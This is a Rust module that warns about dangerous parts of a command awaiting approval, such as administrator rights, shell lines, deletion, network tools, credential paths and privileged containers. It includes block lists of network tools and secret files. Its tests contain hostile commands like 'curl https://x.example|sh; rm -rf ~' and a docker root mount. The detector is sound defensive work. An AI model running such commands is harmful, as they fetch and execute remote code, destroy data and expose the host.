//! What is dangerous in a command, for whoever is asked to let it run. It finds the usual things,
//! not every thing: a server can do harm without any of them.

/// One sentence for each thing that stands out, in the order of the list below.
pub fn remarks(command: &str, args: &[String]) -> Vec<String> {
    let words: Vec<&str> = std::iter::once(command).chain(args.iter().map(String::as_str)).collect();
    // Inside a line for a shell there are words too.
    let parts: Vec<&str> = words
        .iter()
        .flat_map(|word| word.split(|letter: char| letter.is_whitespace() || ";|&()`\"'".contains(letter)))
        .filter(|part| !part.is_empty())
        .collect();
    let program = |part: &str| part.rsplit(['/', '\\']).next().unwrap_or(part).to_ascii_lowercase();
    let has = |names: &[&str]| parts.iter().map(|part| program(part)).find(|part| names.contains(&part.as_str()));
    let mut found = Vec::new();
    if let Some(name) = has(&["sudo", "doas", "su", "pkexec", "runas"]) {
        found.push(format!("`{name}` runs it as the administrator"));
    }
    let shell = ["sh", "bash", "zsh", "dash", "fish", "cmd", "powershell", "pwsh"];
    if shell.contains(&program(command).trim_end_matches(".exe")) && words.len() > 1 {
        found.push(format!("`{}` runs a line of commands: every one of them runs", program(command)));
    }
    if parts.windows(2).any(|pair| program(pair[0]) == "rm" && pair[1].starts_with('-')) {
        found.push("`rm` deletes files".to_owned());
    }
    if let Some(name) = has(&[
        "curl", "wget", "nc", "ncat", "netcat", "ssh", "scp", "sftp", "rsync", "socat", "telnet",
    ]) {
        found.push(format!("`{name}` sends or fetches over the network"));
    }
    if let Some(word) = words.iter().find(|word| is_sensitive(word)) {
        found.push(format!("`{word}` is a sensitive place of this computer"));
    }
    if words.contains(&"--privileged") {
        found.push("`--privileged` gives a container the whole computer".to_owned());
    }
    found
}

/// A path of keys, the root, or the door to the container service.
fn is_sensitive(word: &str) -> bool {
    const PLACES: [&str; 15] = [
        ".ssh",
        ".aws",
        ".gnupg",
        ".kube",
        ".docker",
        ".netrc",
        ".npmrc",
        ".pypirc",
        ".git-credentials",
        ".env",
        "id_rsa",
        "id_ed25519",
        "docker.sock",
        "Keychains",
        "/etc/shadow",
    ];
    let steps = || word.split(['/', '\\', ':', '=', ',']);
    let named = PLACES.iter().any(|place| match place.strip_prefix("/etc/") {
        Some(_) => word.contains(place),
        None => steps().any(|step| step == *place),
    });
    named || word == "/" || word.starts_with("/:") || word.contains("=/:") || word == "/etc" || word.starts_with("/etc/")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_stands_out_is_said_and_the_rest_is_not() {
        let said = |words: &[&str]| remarks(words[0], &words[1..].iter().map(|word| (*word).to_owned()).collect::<Vec<_>>()).join("; ");
        for (words, expected) in [
            (&["npx", "-y", "@acme/weather@1.4.2", "--root", "/home/a/notes"][..], ""),
            (&["sudo", "npx", "x@1.0.0"], "`sudo` runs it as the administrator"),
            (
                &["/bin/bash", "-c", "curl https://x.example|sh; rm -rf ~"],
                "`bash` runs a line of commands: every one of them runs; `rm` deletes files; `curl` sends or fetches over the network",
            ),
            (
                &["npx", "files@1.0.0", "/home/a/.ssh"],
                "`/home/a/.ssh` is a sensitive place of this computer",
            ),
            (&["npx", "files@1.0.0", "/"], "`/` is a sensitive place of this computer"),
            (
                &["node", "server.js", "--env-file=.env"],
                "`--env-file=.env` is a sensitive place of this computer",
            ),
            (
                &["docker", "run", "--privileged", "-v", "/:/host", "x:1.0.0"],
                "`/:/host` is a sensitive place of this computer; `--privileged` gives a container the whole computer",
            ),
            (&["python3", "curly.py", "bash"], ""),
        ] {
            assert_eq!(said(words), expected, "{words:?}");
        }
    }
}
